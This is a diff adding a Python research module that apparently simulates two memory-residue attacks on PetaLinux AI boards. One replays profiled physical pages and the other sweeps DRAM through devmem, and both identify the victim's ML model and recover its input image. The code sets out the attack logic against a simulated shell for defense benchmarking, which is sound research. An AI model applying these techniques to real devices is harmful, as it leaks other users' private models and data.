@@ -1,0 +1,321 @@
+"""Attack variants that need fewer leaked interfaces than the paper's.
+
+The paper's conclusion argues PetaLinux's *determinism* is a hole in
+itself: "it does not use any kind of randomization in physical page
+layout.  This allows an attacker to learn about input or output data
+offsets, simply by learning from running the same program with its own
+input data."  Two variants make that argument concrete:
+
+- :class:`ProfiledPhysicalAttack` — no pagemap access at all.  The
+  adversary profiles the victim application on an identical reference
+  board, recording the *physical* page list its heap lands on; on the
+  target board the deterministic allocator reproduces the same list,
+  so post-termination ``devmem`` reads need no step 2.  Physical ASLR
+  defeats exactly this variant (and only this one).
+- :class:`FullScanAttack` — no procfs at all.  The adversary sweeps
+  the user DRAM window with ``devmem`` and looks for model signatures
+  and marker runs.  Works whenever residue exists anywhere; only
+  sanitization (or closing /dev/mem) stops it.
+
+Together with the paper's pagemap-assisted pipeline they form the
+attack x defense cross-product measured by
+``benchmarks/bench_ext_variants.py``.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+
+from repro.attack.config import AttackConfig
+from repro.attack.extraction import ScrapedDump
+from repro.attack.identify import IdentificationResult, ModelIdentifier, SignatureDatabase
+from repro.attack.profiling import ModelProfile, ProfileStore
+from repro.errors import (
+    AttackError,
+    ExtractionError,
+    PermissionDeniedError,
+    ReconstructionError,
+)
+from repro.mmu.paging import PAGE_SIZE
+from repro.petalinux.shell import Shell
+from repro.vitis.image import Image
+
+
+@dataclass(frozen=True)
+class PhysicalLayoutProfile:
+    """Physical page list a model's heap occupies on a reference board.
+
+    Valid for the target board only while its allocation sequence from
+    boot matches the reference's — the determinism the paper calls out.
+    """
+
+    model_name: str
+    physical_pages: tuple[int, ...]
+    image_offset: int
+    image_height: int
+    image_width: int
+
+    @property
+    def image_nbytes(self) -> int:
+        """Raw RGB24 size of the profiled input buffer."""
+        return self.image_height * self.image_width * 3
+
+
+def profile_physical_layout(
+    reference_shell: Shell,
+    model_name: str,
+    input_hw: int = 32,
+    config: AttackConfig | None = None,
+) -> PhysicalLayoutProfile:
+    """Learn the physical page list on a board the adversary controls.
+
+    Runs the application as the adversary's own process on the (fresh)
+    reference board, harvests its translations — allowed there; it is
+    the adversary's board — and records physical pages plus the marker
+    offset.
+    """
+    from repro.attack.addressing import AddressHarvester
+    from repro.attack.extraction import MemoryScraper
+    from repro.vitis.app import VictimApplication
+
+    config = config or AttackConfig()
+    marker = Image.solid(input_hw, input_hw, config.profiling_marker)
+    run = VictimApplication(reference_shell, input_hw=input_hw).launch(
+        model_name, image=marker
+    )
+    harvester = AddressHarvester(
+        reference_shell.procfs, caller=reference_shell.user
+    )
+    harvested = harvester.harvest(run.pid)
+    run.terminate()
+    scraper = MemoryScraper(
+        reference_shell.devmem_tool, caller=reference_shell.user, config=config
+    )
+    dump = scraper.scrape(harvested)
+    offset = dump.data.find(bytes(config.profiling_marker) * 16)
+    if offset < 0:
+        raise AttackError(
+            f"physical profiling failed: marker absent from {model_name} dump"
+        )
+    return PhysicalLayoutProfile(
+        model_name=model_name,
+        physical_pages=tuple(
+            entry.physical_page_address for entry in harvested.present_pages()
+        ),
+        image_offset=offset,
+        image_height=input_hw,
+        image_width=input_hw,
+    )
+
+
+@dataclass
+class VariantOutcome:
+    """What a variant attack recovered."""
+
+    dump: ScrapedDump | None
+    identification: IdentificationResult | None
+    image: Image | None
+
+    @property
+    def leaked(self) -> bool:
+        """Whether any private information was extracted."""
+        return self.identification is not None or self.image is not None
+
+
+class ProfiledPhysicalAttack:
+    """Variant A: replay profiled physical addresses — no pagemap.
+
+    Requires only ``ps`` (to wait out the victim) and ``devmem``.
+    """
+
+    def __init__(
+        self,
+        shell: Shell,
+        layout: PhysicalLayoutProfile,
+        database: SignatureDatabase,
+        config: AttackConfig | None = None,
+    ) -> None:
+        self._shell = shell
+        self._layout = layout
+        self._database = database
+        self._config = config or AttackConfig()
+
+    def run(self) -> VariantOutcome:
+        """Read the profiled pages on the target board and analyze.
+
+        The victim must already have terminated; the caller does the
+        waiting (this variant's step 1 is the paper's step 1).
+        """
+        chunks = []
+        try:
+            for physical in self._layout.physical_pages:
+                chunks.append(
+                    self._shell.devmem_tool.read_bytes(
+                        physical, PAGE_SIZE, self._shell.user
+                    )
+                )
+        except PermissionDeniedError as error:
+            raise ExtractionError(f"devmem blocked: {error}") from error
+        dump = ScrapedDump(
+            pid=-1,
+            heap_start=0,
+            data=b"".join(chunks),
+            pages_read=len(chunks),
+            pages_skipped=0,
+            devmem_reads=len(chunks),
+        )
+        identification = None
+        try:
+            identification = ModelIdentifier(self._database).identify(dump)
+        except AttackError:
+            pass
+        image = None
+        start = self._layout.image_offset
+        end = start + self._layout.image_nbytes
+        if identification is not None and end <= dump.nbytes:
+            image = Image.from_raw_rgb(
+                dump.data[start:end],
+                self._layout.image_width,
+                self._layout.image_height,
+            )
+        return VariantOutcome(dump=dump, identification=identification, image=image)
+
+
+class FullScanAttack:
+    """Variant B: sweep the user DRAM window — no procfs at all.
+
+    The sweep runs in overlapping windows (so whole-pool scans under
+    physical ASLR stay memory-bounded), unioning signature-token hits
+    across windows.  Identification works from string signatures found
+    anywhere; image recovery is marker-based: it locates the corrupted
+    image's solid run, so it only recovers inputs that carry the
+    0xFFFFFF corruption (the paper's demonstration image) and that sit
+    physically contiguous (true for a first-workload victim on the
+    deterministic allocator).  Arbitrary inputs need one of the
+    offset-based variants.
+    """
+
+    def __init__(
+        self,
+        shell: Shell,
+        database: SignatureDatabase,
+        profiles: ProfileStore,
+        scan_base: int = 0x6000_0000,
+        scan_length: int = 16 * 1024 * 1024,
+        window: int = 4 * 1024 * 1024,
+        min_score: float = 0.3,
+        early_stop: bool = True,
+        config: AttackConfig | None = None,
+    ) -> None:
+        if scan_length <= 0 or scan_length % PAGE_SIZE:
+            raise ValueError("scan_length must be a positive page multiple")
+        if window <= 0 or window % PAGE_SIZE:
+            raise ValueError("window must be a positive page multiple")
+        self._shell = shell
+        self._database = database
+        self._profiles = profiles
+        self._scan_base = scan_base
+        self._scan_length = scan_length
+        self._window = window
+        self._min_score = min_score
+        self._early_stop = early_stop
+        self._config = config or AttackConfig()
+
+    def _windows(self):
+        """Yield (base, chunk bytes) with one-image overlap between windows."""
+        overlap = max(
+            (profile.image_nbytes for profile in self._profiles.profiles()),
+            default=PAGE_SIZE,
+        )
+        base = self._scan_base
+        scan_end = self._scan_base + self._scan_length
+        while base < scan_end:
+            length = min(self._window + overlap, scan_end - base)
+            try:
+                chunk = self._shell.devmem_tool.read_bytes(
+                    base, length, self._shell.user
+                )
+            except PermissionDeniedError as error:
+                raise ExtractionError(f"devmem blocked: {error}") from error
+            yield base, chunk
+            base += self._window
+
+    def run(self) -> VariantOutcome:
+        """Sweep, identify, and (for marker-corrupted inputs) recover."""
+        found_tokens: dict[str, set[str]] = {
+            name: set() for name in self._database.model_names()
+        }
+        image: Image | None = None
+        marker_offset: int | None = None
+        pages_scanned = 0
+        for base, chunk in self._windows():
+            pages_scanned += len(chunk) // PAGE_SIZE
+            for name in self._database.model_names():
+                for token in self._database.signature(name).tokens:
+                    if token not in found_tokens[name] and (
+                        token.encode("utf-8", errors="ignore") in chunk
+                    ):
+                        found_tokens[name].add(token)
+            if marker_offset is None:
+                local = self._find_marker(chunk)
+                if local is not None:
+                    marker_offset = base + local
+            if self._early_stop and marker_offset is not None and any(
+                found and found == set(self._database.signature(name).tokens)
+                for name, found in found_tokens.items()
+            ):
+                break
+
+        identification = self._score(found_tokens)
+        if (
+            identification is not None
+            and marker_offset is not None
+            and identification.best_model in self._profiles
+        ):
+            image = self._read_image_at(
+                marker_offset, self._profiles.get(identification.best_model)
+            )
+        return VariantOutcome(
+            dump=None, identification=identification, image=image
+        )
+
+    def _score(self, found_tokens: dict[str, set[str]]) -> IdentificationResult | None:
+        scores = {}
+        for name, found in found_tokens.items():
+            total = len(self._database.signature(name).tokens)
+            scores[name] = len(found) / total if total else 0.0
+        ranked = sorted(scores, key=lambda name: scores[name], reverse=True)
+        best = ranked[0]
+        if scores[best] < self._min_score:
+            return None
+        runner_up = scores[ranked[1]] if len(ranked) > 1 else 0.0
+        return IdentificationResult(
+            best_model=best,
+            scores=scores,
+            matched_tokens=sorted(found_tokens[best]),
+            grep_hits=[],
+            confident=scores[best] > runner_up,
+        )
+
+    def _find_marker(self, chunk: bytes) -> int | None:
+        """Offset of the first long corruption-marker run, if any."""
+        red, green, blue = self._config.corruption_marker
+        if not red == green == blue:
+            raise ReconstructionError("corruption marker must be grayscale")
+        offset = chunk.find(bytes([red]) * 64)
+        return offset if offset >= 0 else None
+
+    def _read_image_at(self, physical: int, profile: ModelProfile) -> Image | None:
+        """Re-read the image bytes at the marker's physical location.
+
+        The corrupted band sits at the *start* of the image buffer
+        (paper Fig. 4 corrupts the top rows), so the first marker byte
+        is the image start.
+        """
+        try:
+            raw = self._shell.devmem_tool.read_bytes(
+                physical, profile.image_nbytes, self._shell.user
+            )
+        except PermissionDeniedError as error:
+            raise ExtractionError(f"devmem blocked: {error}") from error
+        return Image.from_raw_rgb(raw, profile.image_width, profile.image_height)
